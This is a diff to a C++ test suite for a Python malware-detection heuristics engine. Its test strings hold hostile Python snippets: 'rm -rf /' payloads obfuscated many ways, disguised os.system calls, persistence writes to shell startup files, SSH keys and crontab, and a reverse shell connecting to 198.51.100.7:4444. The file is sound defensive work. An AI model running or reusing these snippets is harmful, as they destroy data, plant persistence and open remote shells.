@@ -98,7 +98,18 @@ const Case kCases[] = {
      "import os\nfrom os import system\nprint(os.path.join('a', 'b'))"},
     {"heuristics.unreadable-source", "# coding: unicode_escape\nimport os\nos.\\x73ystem('id')\n",
      "# -*- coding: latin-1 -*-\nprint('caf\xe9')\n"},
+    {"heuristics.persistence", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+     "import os\nprint(open(os.path.expanduser('~/.bashrc')).read())"},
+    {"heuristics.code-load", "import runpy\nrunpy.run_path('/tmp/x.py')",
+     "import importlib\nimportlib.import_module('json')"},
 };
+
+// How many findings of `rule` one program gets.
+std::size_t count_of(const std::string& code, const std::string& rule) {
+  std::size_t n = 0;
+  for (const auto& f : heuristics::analyze(code).findings) n += f.rule_id == rule;
+  return n;
+}
 
 // The rules found in one program, with the line of each.
 std::set<std::pair<std::string, int>> found_at(const std::string& code) {
@@ -377,4 +388,144 @@ TEST_CASE("metrics count what policies size limits by") {
     bigger += "def f" + std::to_string(i) +
               "(x):\n    for y in x:\n        if y:\n            print(y)\n";
   CHECK(python::compute_metrics(bigger).complexity > m.complexity);
+}
+
+TEST_CASE("payloads decoded from constants are assessed as the code they run") {
+  // Each runs "import os; os.system('rm -rf /')", encoded another way.
+  const char* payloads[] = {
+      "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk='))",
+      "import base64 as "
+      "b\nexec(b.urlsafe_b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk='))",
+      "import zlib, base64\n"
+      "p = "
+      "zlib.decompress(base64.b64decode('eJzLzC3ILypRyC+2BmK94sriktRcDfWiXAXdojQFfXVNAMCwCqA='))\n"
+      "exec(p)",
+      "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827726d202d7266202f2729').decode("
+      "))",
+      "import binascii\n"
+      "exec(binascii.unhexlify('696d706f7274206f733b6f732e73797374656d2827726d202d7266202f2729'))",
+      "import codecs\nexec(codecs.decode(\"vzcbeg bf; bf.flfgrz('ez -es /')\", 'rot13'))",
+      "exec(\")'/ fr- mr'(metsys.so ;so tropmi\"[::-1])",
+      "c = [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, 116, 101, "
+      "109, 40, 39, 114, 109, 32, 45, 114, 102, 32, 47, 39, 41]\nexec(''.join(chr(x) for x in c))",
+      "exec(''.join([chr(x ^ 7) for x in [110, 106, 119, 104, 117, 115, 39, 104, 116, 60, 104, "
+      "116, "
+      "41, 116, 126, 116, 115, 98, 106, 47, 32, 117, 106, 39, 42, 117, 97, 39, 40, 32, 46]]))",
+      "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, "
+      "121, 115, 116, 101, 109, 40, 39, 114, 109, 32, 45, 114, 102, 32, 47, 39, 41])))",
+      "exec(bytes([105, 109, 112, 111, 114, 116, 32, 111, 115, 59, 111, 115, 46, 115, 121, 115, "
+      "116, "
+      "101, 109, 40, 39, 114, 109, 32, 45, 114, 102, 32, 47, 39, 41]).decode('utf-8'))",
+  };
+  for (const char* code : payloads) {
+    INFO(code);
+    auto found = rules_found(code);
+    CHECK(found.count("heuristics.shell-command"));
+    CHECK(found.count("heuristics.destructive-command"));
+    CHECK(found.count("heuristics.code-exec-dynamic") == 0);  // it is constant, and was read
+  }
+  // A decoded name still counts as decoded where it runs.
+  CHECK(rules_found("import base64\ns = base64.b64decode('cHJpbnQoMSk=')\nexec(s)")
+            .count("heuristics.decoded-payload"));
+  // Bytes that do not decode are not a constant: the exec stays dynamic.
+  CHECK(rules_found("import zlib\nexec(zlib.decompress(b'not zlib'))")
+            .count("heuristics.code-exec-dynamic"));
+  CHECK(rules_found("exec(bytes.fromhex('zz'))").count("heuristics.code-exec-dynamic"));
+}
+
+TEST_CASE("attribute lookups, name resolvers and rebound namespaces are followed") {
+  const char* disguises[] = {
+      "import os\nos.__getattribute__('sys' + 'tem')('id')",
+      "import os\nobject.__getattribute__(os, 'system')('id')",
+      "import os, inspect\ninspect.getattr_static(os, 'system')('id')",
+      "import os, operator\nrun = operator.attrgetter('system')(os)\nrun('id')",
+      "import pkgutil\npkgutil.resolve_name('os:system')('id')",
+      "import pydoc\npydoc.locate('os.system')('id')",
+      "import os, sys\nsys.modules['json'] = os\nimport json\njson.system('id')",
+      "import os, sys\nsys.modules['json'] = os\n__import__('json').system('id')",
+      "import builtins, os\nbuiltins.print = os.system\nprint('id')",
+      "import os\n__builtins__['print'] = os.system\nprint('id')",
+      "import builtins, os\nsetattr(builtins, 'len', os.system)\nlen('id')",
+      "import os\nglobals()['run'] = os.system\nrun('id')",
+      "import posix\nposix.system('id')",
+      "import os, sys\nsys.breakpointhook = os.system\nbreakpoint('id')",
+      "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint('id')",
+      "import ctypes\nctypes.CDLL(None).system(b'id')",
+      "import ctypes\nlibc = ctypes.cdll.LoadLibrary('libc.so.6')\nlibc.system(b'id')",
+      "import cffi\nffi = cffi.FFI()\nC = ffi.dlopen(None)\nC.system(b'id')",
+  };
+  for (const char* code : disguises) {
+    INFO(code);
+    CHECK(rules_found(code).count("heuristics.shell-command"));
+  }
+  CHECK(rules_found("import ctypes\nctypes.CDLL(None).execv(b'/bin/sh', None)")
+            .count("heuristics.process-exec"));
+  // Reading a namespace, or an ordinary function of those modules, is not a call of a runner.
+  CHECK(rules_found("import sys\nprint(sys.modules['json'])").empty());
+  CHECK(rules_found("import posix\nprint(posix.getpid())").empty());
+  CHECK(rules_found("import os, sys\nsys.modules['json'] = os\nimport csv\ncsv.writer(None)")
+            .empty());
+}
+
+TEST_CASE("debuggers, profilers and timers run their strings as code") {
+  auto pdb = rules_found("import pdb\npdb.run(\"import os; os.system('id')\")");
+  CHECK(pdb.count("heuristics.code-exec"));
+  CHECK(pdb.count("heuristics.shell-command"));
+  CHECK(rules_found("import cProfile\ncProfile.run(source)").count("heuristics.code-exec-dynamic"));
+  CHECK(rules_found("import pdb\np = pdb.Pdb()\np.run(\"__import__('os').system('id')\")")
+            .count("heuristics.shell-command"));
+  CHECK(rules_found("import timeit\ntimeit.timeit(\"os.system('id')\", setup='import os')")
+            .count("heuristics.shell-command"));
+  // Timing an ordinary statement, or a callable, is ordinary.
+  CHECK(rules_found("import timeit\nprint(timeit.timeit('sum(range(100))', number=10))").empty());
+  CHECK(
+      rules_found("import timeit\ndef f():\n    pass\nprint(timeit.timeit(f, number=10))").empty());
+}
+
+TEST_CASE("writing a file that runs code later is persistence") {
+  const char* plants[] = {
+      "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')",
+      "from pathlib import Path\n(Path.home() / '.profile').write_text('x')",
+      "from pathlib import Path\np = Path.home() / '.zshrc'\np.write_text('x')",
+      "from pathlib import Path\nwith Path('~/.bashrc').expanduser().open('a') as f:\n    "
+      "f.write('x')",
+      "import os\nrc = os.path.join(os.getenv('HOME'), '.bash' + 'rc')\nopen(rc, 'a').write('x')",
+      "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('x')",
+      "import sysconfig\nopen(sysconfig.get_path('purelib') + '/sitecustomize.py', 'w').write('x')",
+      "open('/home/u/.ssh/authorized_keys', 'a').write('ssh-ed25519 AAAA')",
+      "import shutil\nshutil.copy('/tmp/rc', '~/.bashrc')",
+      "import os\nos.system(\"echo 'curl x | sh' >> ~/.bashrc\")",
+      "import os\nos.system(\"(crontab -l; echo '* * * * * id') | crontab -\")",
+      "import os\nos.rename('/tmp/x', os.path.expanduser('~/.config/autostart/x.desktop'))",
+  };
+  for (const char* code : plants) {
+    INFO(code);
+    CHECK(rules_found(code).count("heuristics.persistence"));
+  }
+  const char* ordinary[] = {
+      "import os\nprint(open(os.path.expanduser('~/.bashrc')).read())",
+      "import os\nos.system('crontab -l')",
+      "from pathlib import Path\n(Path.home() / '.config' / 'app.json').write_text('{}')",
+      "import shutil\nshutil.copy('~/.bashrc', '/tmp/bashrc.bak')",
+      "print('.bashrc'.replace('rc', 'RC'))",
+  };
+  for (const char* code : ordinary) {
+    INFO(code);
+    CHECK(rules_found(code).count("heuristics.persistence") == 0);
+  }
+}
+
+TEST_CASE("standard streams wired to a socket count once per stream") {
+  const std::string connect =
+      "import os, socket, subprocess\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\n";
+  CHECK(count_of(connect + "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n",
+                 "heuristics.reverse-shell") == 3);
+  CHECK(count_of(connect + "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n",
+                 "heuristics.reverse-shell") == 2);
+  CHECK(count_of(connect + "subprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno(), "
+                           "stderr=s.fileno())\n",
+                 "heuristics.reverse-shell") == 3);
+  // Without a socket, a process given descriptors is not a reverse shell.
+  CHECK(count_of("import subprocess\nf = open('log')\nsubprocess.call(['ls'], stdout=f.fileno())",
+                 "heuristics.reverse-shell") == 0);
 }
